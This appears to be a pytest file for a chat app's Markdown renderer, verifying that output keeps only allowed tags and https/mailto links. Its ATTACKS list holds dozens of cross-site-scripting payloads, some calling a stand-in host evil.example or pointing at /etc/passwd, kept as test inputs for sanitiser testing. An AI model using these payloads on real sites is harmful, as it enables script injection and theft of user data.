"""A reply's Markdown becomes HTML, and never anything that runs or loads."""

from html.parser import HTMLParser

import pytest

from chat.rendering import ATTRIBUTES, TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<a href='javascript:alert(1)'>klicka</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=password></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "[klicka](javascript:alert(1))",
    "[klicka](JaVaScRiPt:alert(1))",
    "[klicka](java\tscript:alert(1))",
    "[klicka](javascript&colon;alert(1))",
    "[klicka](&#x6A;avascript:alert(1))",
    "[klicka](\x01javascript:alert(1))",
    "[klicka](vbscript:msgbox(1))",
    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klicka](file:///etc/passwd)",
    "[klicka](//evil.example)",
    "[klicka](/logout/)",
    '[a](https://x.example"onmouseover=alert(1)//)',
    "[a](https://x.example 'x\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/pixel.png)",
    '![" onerror="alert(1)](x)',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    '```"><script>alert(1)</script>\nkod\n```',
    '```js" onclick="alert(1)\nkod\n```',
    "`<script>alert(1)</script>`",
    "[x]: javascript:alert(1)\n\n[x]",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
]


class Seen(HTMLParser):
    """Collects every tag and attribute that a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_only_harmless_tags_and_addresses_come_through(attack):
    for tag, attributes in Seen(render(attack)).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        assert (attributes.get("href") or "https://").startswith(("https://", "mailto:"))


def test_what_people_write_is_shown_as_written():
    html = render("**Hej** ~~då~~\nrad två\n\n- ett\n- två\n\n> sagt")

    assert "<strong>Hej</strong> <s>då</s><br>" in html
    assert "<li>ett</li>" in html
    assert "<blockquote>" in html


def test_html_is_shown_as_text():
    assert render("<b>x</b>").strip() == "<p>&lt;b&gt;x&lt;/b&gt;</p>"


def test_a_link_tells_nothing_about_us():
    assert render("[Alice](https://alice.example/)").strip() == (
        '<p><a href="https://alice.example/" rel="noopener noreferrer nofollow">Alice</a></p>'
    )


def test_an_image_becomes_a_link():
    html = render("![En katt](https://x.example/katt.png)")

    assert "<img" not in html
    assert ">En katt</a>" in html


def test_an_image_inside_a_link_leaves_its_description():
    html = render("[![En katt](https://x.example/katt.png)](https://x.example/)")

    assert html.count("<a ") == 1
    assert ">En katt</a>" in html


def test_a_code_block_keeps_its_language():
    assert '<code class="language-python">' in render("```python\nprint(1)\n```")


def test_a_column_keeps_its_side_without_a_style_attribute():
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert '<td class="right">2</td>' in html
    assert "style" not in html


def test_a_hostile_depth_is_survived():
    assert render("> " * 5000 + "x")
    assert render("[" * 5000 + "x")
    assert render("*" * 20000 + "x")
